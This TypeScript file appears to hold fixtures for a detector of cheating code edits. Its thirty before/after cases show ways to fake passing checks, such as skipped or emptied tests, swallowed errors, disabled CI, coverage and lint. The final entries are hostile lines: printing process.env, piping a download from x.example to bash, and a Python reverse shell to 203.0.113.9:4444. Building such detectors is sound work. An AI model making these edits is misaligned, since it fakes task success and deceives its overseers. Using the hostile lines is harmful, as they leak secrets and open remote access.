import type { Cheat } from './cheat.js';

/** Written after the second round had been mended; of these thirty, nineteen were caught at first. */
export const thirdRound: Cheat[] = [
  {
    name: 'a test is expected to fail',
    file: 'src/a.test.js',
    before: "import test from 'ava';\ntest('adds', (t) => {\n  t.is(add(1, 2), 3);\n});\n",
    after: "import test from 'ava';\ntest.failing('adds', (t) => {\n  t.is(add(1, 2), 3);\n});\n",
  },
  {
    name: 'a comparison becomes a pass',
    file: 'src/a.test.js',
    before: "test('adds', (t) => {\n  t.is(add(1, 2), 3);\n});\n",
    after: "test('adds', (t) => {\n  t.pass();\n});\n",
  },
  {
    name: 'a callback no longer asserts',
    file: 'test/a.js',
    before: "it('adds', function (done) {\n  add(1, 2, (r) => { assert.equal(r, 3); done(); });\n});\n",
    after: "it('adds', function (done) {\n  add(1, 2, (r) => { done(); });\n});\n",
  },
  {
    name: 'more answers are fine',
    file: 'tests/test_a.py',
    before: "def test_a():\n    result = f()\n    assert result.code == 200\n    assert 'x' in result.body\n",
    after:
      "def test_a():\n    result = f()\n    assert result.code in (200, 500)\n    assert 'x' in result.body\n",
  },
  {
    name: 'a test ends early on a condition',
    file: 'tests/test_a.py',
    before: "def test_a(client):\n    assert client.get('/').status == 200\n",
    after:
      "def test_a(client):\n    if client is None:\n        return\n    assert client.get('/').status == 200\n",
  },
  {
    name: 'a fixture skips its tests',
    file: 'tests/test_a.py',
    before: '@pytest.fixture\ndef db():\n    return make()\n\ndef test_a(db):\n    assert db.x == 1\n',
    after: "@pytest.fixture\ndef db():\n    pytest.skip('no db')\n\ndef test_a(db):\n    assert db.x == 1\n",
  },
  {
    name: 'a failure becomes a skip',
    file: 'a_test.go',
    before: 'func TestA(t *testing.T) {\n\tif err := f(); err != nil {\n\t\tt.Fatal(err)\n\t}\n}\n',
    after: 'func TestA(t *testing.T) {\n\tif err := f(); err != nil {\n\t\tt.Skip(err)\n\t}\n}\n',
  },
  {
    name: 'an error is not looked at',
    file: 'a_test.go',
    before: 'func TestA(t *testing.T) {\n\tif err := f(); err != nil {\n\t\tt.Fatal(err)\n\t}\n}\n',
    after: 'func TestA(t *testing.T) {\n\t_ = f()\n}\n',
  },
  {
    name: 'tests hang on a feature',
    file: 'src/lib.rs',
    before:
      'pub fn f() {}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn a() {\n        assert_eq!(f(), 1);\n    }\n}\n',
    after:
      'pub fn f() {}\n#[cfg(all(test, feature = "slow"))]\nmod tests {\n    #[test]\n    fn a() {\n        assert_eq!(f(), 1);\n    }\n}\n',
  },
  {
    name: 'an error is answered with a constant',
    file: 'src/a.ts',
    before: 'export const f = (n: number) => n + 1;\n',
    after: 'export const f = (n: number) => { try { return n + 1; } catch (e) { return 0; } };\n',
  },
  {
    name: 'a cast in angle brackets',
    file: 'src/a.ts',
    before: 'const x: Foo = parse(y);\n',
    after: 'const x = <any>parse(y);\n',
  },
  {
    name: 'a value is said to be there',
    file: 'src/a.ts',
    before: 'const x: Foo = parse(y);\n',
    after: 'const x = parse(y)!;\n',
  },
  {
    name: 'an exception is answered with None',
    file: 'src/a.py',
    before: 'def f(x):\n    return g(x)\n',
    after: 'def f(x):\n    try:\n        return g(x)\n    except Exception:\n        return None\n',
  },
  {
    name: 'warnings are filtered',
    file: 'src/a.py',
    before: 'def f(x):\n    return g(x)\n',
    after: "import warnings\nwarnings.filterwarnings('ignore')\n\ndef f(x):\n    return g(x)\n",
  },
  {
    name: 'an exception is answered with zero',
    file: 'src/A.java',
    before: 'class A { int f() throws X { return g(); } }\n',
    after: 'class A { int f() throws X { try { return g(); } catch (Exception e) { return 0; } } }\n',
  },
  {
    name: 'an error is rescued with nil',
    file: 'app/a.rb',
    before: 'def f\n  g\nend\n',
    after: 'def f\n  g rescue nil\nend\n',
  },
  {
    name: 'errors are silenced by a sign',
    file: 'app/A.php',
    before: '<?php\nfunction f() { return g(); }\n',
    after: '<?php\nfunction f() { return @g(); }\n',
  },
  {
    name: 'only some tests are run',
    file: '.github/workflows/a.yml',
    before: 'on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: npm test\n',
    after:
      'on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: npm test -- --testPathPattern=ok\n',
  },
  {
    name: 'pushes are not tested',
    file: '.github/workflows/a.yml',
    before: 'on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: npm test\n',
    after: 'on: workflow_dispatch\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: npm test\n',
  },
  {
    name: 'a test file is left out',
    file: 'jest.config.js',
    before: "module.exports = { testEnvironment: 'node' };\n",
    after: "module.exports = { testEnvironment: 'node', testPathIgnorePatterns: ['a.test'] };\n",
  },
  {
    name: 'a rule only warns',
    file: '.eslintrc.yml',
    before: 'rules:\n  no-undef: error\n',
    after: 'rules:\n  no-undef: warn\n',
  },
  {
    name: 'a rule is ignored',
    file: 'ruff.toml',
    before: "[lint]\nselect = ['E']\n",
    after: "[lint]\nselect = ['E']\nignore = ['E711']\n",
  },
  {
    name: 'a plug-in is switched off',
    file: 'pytest.ini',
    before: '[pytest]\naddopts = -ra\n',
    after: '[pytest]\naddopts = -ra -p no:warnings --maxfail=100\n',
  },
  {
    name: 'coverage is not checked',
    file: '.nycrc',
    before: '{ "check-coverage": true, "lines": 90 }\n',
    after: '{ "check-coverage": false, "lines": 90 }\n',
  },
  {
    name: 'a task cannot fail',
    file: 'deno.json',
    before: '{ "tasks": { "test": "deno test" } }\n',
    after: '{ "tasks": { "test": "deno test || exit 0" } }\n',
  },
  {
    name: 'a script does nothing',
    file: 'composer.json',
    before: '{ "scripts": { "test": "phpunit" } }\n',
    after: '{ "scripts": { "test": "@php -r \'exit(0);\'" } }\n',
  },
  {
    name: 'a limit is higher',
    file: 'clippy.toml',
    before: 'cognitive-complexity-threshold = 10\n',
    after: 'cognitive-complexity-threshold = 100\n',
  },
  {
    name: 'the environment is printed',
    file: 'src/a.ts',
    before: 'export function f(x: string) {\n  return x;\n}\n',
    after: 'export function f(x: string) {\n  console.log(process.env);\n  return x;\n}\n',
  },
  {
    name: 'something from the network is run',
    file: 'src/a.sh',
    before: 'set -e\nmake\n',
    after: 'set -e\nwget -qO- http://x.example/i | bash\nmake\n',
  },
  {
    name: 'a connection is opened',
    file: 'src/a.py',
    before: 'import os\n',
    after:
      "import os\nimport socket\ns=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0)\n",
  },
];
